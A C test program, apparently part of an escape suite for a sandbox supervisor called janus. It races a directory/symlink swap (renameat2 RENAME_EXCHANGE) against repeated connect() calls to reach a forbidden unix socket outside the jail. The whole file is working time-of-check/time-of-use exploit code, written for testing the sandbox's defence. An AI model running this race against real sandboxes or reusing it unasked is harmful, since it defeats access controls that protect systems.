/* e0207-unix-socket-swap - directory-component swap on a unix socket path.
 *
 * Attack: "e0207-d" is a real directory holding a socket of the
 * program's own named like the forbidden one, "e0207-s" a symbolic link
 * to the forbidden socket's directory (outside the jail, a listener that
 * counts); a thread swaps the two names (renameat2 RENAME_EXCHANGE) while
 * another connects to "e0207-d/NAME".  The supervisor checks the path
 * while e0207-d is the directory; the kernel may walk it when it is the
 * link.  connect() has no flag to refuse symlinks.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components).  Contained by janus's pinning of the socket file
 * (doc/races.md, section 2).
 * Usage: e0207-unix-socket-swap FORBIDDEN-SOCKET */
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static volatile int stop;
static int lfd;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "e0207-d", AT_FDCWD, "e0207-s", RENAME_EXCHANGE);
	return NULL;
}

static void *acceptor(void *arg)
{
	(void)arg;
	while (!stop) {
		int c = accept(lfd, NULL, NULL);
		if (c >= 0)
			close(c);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0207-unix-socket-swap FORBIDDEN-SOCKET");
	char dir[PATH_MAX], base[PATH_MAX], own[PATH_MAX * 2];
	snprintf(dir, sizeof dir, "%s", argv[1]);
	snprintf(base, sizeof base, "%s", argv[1]);
	snprintf(own, sizeof own, "e0207-d/%s", basename(base));
	mkdir("e0207-d", 0755);
	unlink("e0207-s");
	unlink(own);
	if (symlink(dirname(dir), "e0207-s") < 0)
		esc_die("symlink");
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, len) < 0 || listen(lfd, 512) < 0)
		esc_die("listen on our own socket");
	pthread_t ts, ta;
	if (pthread_create(&ta, NULL, acceptor, NULL) != 0 ||
	    pthread_create(&ts, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long connected = 0, refused = 0;
	int last = 0;
	bool reached = false;
	esc_race_init(&r);
	while (!reached && esc_race_go(&r)) {
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (s < 0)
			esc_die("socket");
		if (connect(s, (struct sockaddr *)&sa, len) == 0) {
			struct sockaddr_un peer;
			socklen_t pl = sizeof peer;
			connected++;
			memset(&peer, 0, sizeof peer);
			if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
			    strcmp(peer.sun_path, argv[1]) == 0)
				reached = true;
		} else {
			refused++;
			last = errno;
		}
		close(s);
	}
	printf("connect race: %ld tries, %ld connected, %ld refused%s%s; peer was the forbidden socket: %s\n",
	       r.tries, connected, refused, refused ? ", last " : "",
	       refused ? esc_errno_name(last) : "", reached ? "yes" : "no");
	stop = 1;
	shutdown(lfd, SHUT_RDWR);
	pthread_join(ts, NULL);
	pthread_join(ta, NULL);
	return 0;
}
